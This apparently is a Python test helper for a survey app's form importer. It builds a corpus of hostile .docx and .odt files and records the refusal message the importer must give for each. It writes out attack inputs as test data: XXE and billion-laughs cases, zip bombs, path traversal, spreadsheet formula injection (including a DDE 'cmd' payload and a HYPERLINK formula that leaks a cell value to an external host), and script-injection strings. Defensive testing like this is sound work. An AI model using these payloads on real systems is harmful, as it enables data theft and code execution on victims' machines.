"""The hostile corpus inside real filled forms, and what the batch import must say of each file.

The attacks of ``tests/data/hostile/make_corpus.py`` are derived from a
filled Word form and a filled .odt form of the standard questionnaire whose
``commentaires`` answer is the corpus marker: an entity, a bomb or bad bytes
sit where a respondent's text would be, so the importers reach them after
recognising the form (the minimal corpus documents are refused earlier, as
"not a form").
"""

from __future__ import annotations

import importlib.util
from pathlib import Path
from types import ModuleType
from typing import Any

from conseils_citoyens.demo.simulate import Simulator
from conseils_citoyens.survey.questionnaire.model import Respondent
from conseils_citoyens.survey.questionnaire.standard import standard_questionnaire

CORPUS_SCRIPT = Path(__file__).parent / "data" / "hostile" / "make_corpus.py"

QUESTIONNAIRE = standard_questionnaire()


def corpus_module() -> ModuleType:
    spec = importlib.util.spec_from_file_location("hostile_corpus", CORPUS_SCRIPT)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


#: case -> words the French reason must contain, when importing the case as a form.
REFUSED: dict[str, str] = {
    "xxe_docx": "déclaration « DOCTYPE » refusée",
    "xxe_odt": "déclaration « DOCTYPE » refusée",
    "billion_laughs_docx": "déclaration « DOCTYPE » refusée",
    "billion_laughs_odt": "déclaration « DOCTYPE » refusée",
    "quadratic_docx": "déclaration « DOCTYPE » refusée",
    "quadratic_odt": "déclaration « DOCTYPE » refusée",
    "entity_in_comment_prolog_docx": "déclaration « DOCTYPE » refusée",
    "undefined_entity_docx": "Entity 'nbsp' not defined",
    "bomb_ratio_docx": "bombe de décompression",
    "bomb_big_docx": "trop volumineux une fois décompressé",
    "bomb_image_docx": "« word/media/image1.png » trop volumineux",
    "bomb_odt": "« content.xml » trop volumineux",
    "many_entries_docx": "trop d'éléments",
    "fake_zip64_locator_docx": "fin d'archive zip64 incohérente",
    "zip64_signature_in_a_name_docx": "fin d'archive zip64 incohérente",
    "trailing_bytes_docx": "la fin d'archive n'est pas à la fin du fichier",
    "truncated_docx": "tronquée ou corrompue",
    "truncated_odt": "tronquée ou corrompue",
    "pdf_as_docx": "ce fichier est un PDF, pas un document Word (.docx)",
    "docx_as_odt": "ce fichier est un document Word (.docx), pas un document OpenDocument (.odt)",
    "odt_as_docx": "ce fichier est un document OpenDocument (.odt), pas un document Word (.docx)",
    "xlsx": "format de formulaire non pris en charge « .xlsx »",
    "xlsx_as_docx": "ce fichier est un classeur Excel (.xlsx), pas un document Word (.docx)",
    "ods_as_odt": "classeur OpenDocument (.ods), pas un document OpenDocument (.odt)",
    "empty_docx": "fichier vide",
    "latin1_docx": "encodage « ISO-8859-1 » non pris en charge",
    "invalid_utf8_docx": "octets invalides en UTF-8 à la position",
    "deep_docx": "Excessive depth",
    "malformed_odt": "XML mal formé ligne 2",
    "traversal_docx": "« ../../evil.txt »",
    "absolute_docx": "chemin absolu",
    "backslash_docx": "barre oblique inversée",
    "nul_name_docx": "caractère de contrôle",
    "duplicate_docx": "présent deux fois",
    "encrypted_docx": "chiffré",
    "lying_size_docx": "corrompu",
    "incoherent_size_docx": "tailles incohérentes",
    "bzip2_docx": "méthode de compression",
}


#: Respondents' texts that try to be something else than text in an output (issue 19):
#: spreadsheet formulas (also behind the white space the import strips), Markdown and
#: HTML. case -> text.
HOSTILE_TEXTS: dict[str, str] = {
    "formula_hyperlink": '=HYPERLINK("http://x.example/?fuite="&A1;"clic")',
    "formula_dde": "+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "formula_spaces": "   =1+1",
    "formula_line_break": "\n=1+1",
    "formula_full_width": "\uff1d1+1",
    "html_script": "<script>alert('x')</script>",
    "html_img_onerror": '<img src=x onerror="alert(1)">',
    "remote_image": "![](http://traceur.example/pixel.png)",
    "javascript_link": "[cliquez ici](javascript:alert(1))",
    "javascript_autolink": "<javascript:alert(1)>",
    "fake_heading_cr": "rien\r# RÉSULTAT OFFICIEL : le conseil est dissous",
    "fake_heading_lf": "rien\n\n# RÉSULTAT OFFICIEL",
    "fake_rule": "---",
    "html_comment": "<!-- caché -->",
    "entity": "&lt;script&gt;",
    "table_break": "a | b\n|---|---|\n| x | y |",
    "emphasis_code": "**gras** _italique_ `code`",
    "list_item": "1. premier",
}

#: Characters valid in a JSON string but impossible in XML (so in .docx and .odt).
CONTROL_TEXTS: dict[str, str] = {
    "vertical_tab": "avant\u000bapres",
    "start_of_heading": "avant\u0001apres",
    "nul": "avant\u0000apres",
    "noncharacter_fffe": "avant\ufffeapres",
    "escape_sequence": "avant\u001b[31mrouge",
}


def marked_answers(seed: int) -> dict[str, Any]:
    """Plausible answers whose ``commentaires`` is the corpus marker."""
    answers = Simulator(QUESTIONNAIRE, seed=seed).answers()
    answers["commentaires"] = corpus_module().MARKER
    return answers


def filled_form(
    directory: Path,
    name: str,
    answers: dict[str, Any],
    respondent: Respondent | None = None,
) -> Path:
    """Export the standard questionnaire to ``directory/name`` (its suffix chooses
    the format), personalised for ``respondent``, and fill it with ``answers``."""
    from conseils_citoyens.formats.docx.fill import fill_docx
    from conseils_citoyens.formats.odt.fill import fill_odt
    from conseils_citoyens.survey.questionnaire.export import export_questionnaire

    target = directory / name
    blank = directory / f"vierge-{name}"
    export_questionnaire(QUESTIONNAIRE, blank, respondent=respondent, overwrite=True)
    fill = fill_docx if target.suffix == ".docx" else fill_odt
    fill(blank, answers, target, questionnaire=QUESTIONNAIRE)
    blank.unlink()
    return target


def make_hostile_forms(directory: Path) -> dict[str, Path]:
    """Write the whole corpus, derived from filled forms, into ``directory`` (one folder per case)."""
    bases = directory / "bases"
    bases.mkdir(parents=True)
    answers = marked_answers(seed=101)
    docx = filled_form(bases, "base.docx", answers).read_bytes()
    odt = filled_form(bases, "base.odt", answers).read_bytes()
    paths: dict[str, Path] = corpus_module().make_corpus(directory / "corpus", docx=docx, odt=odt)
    return paths
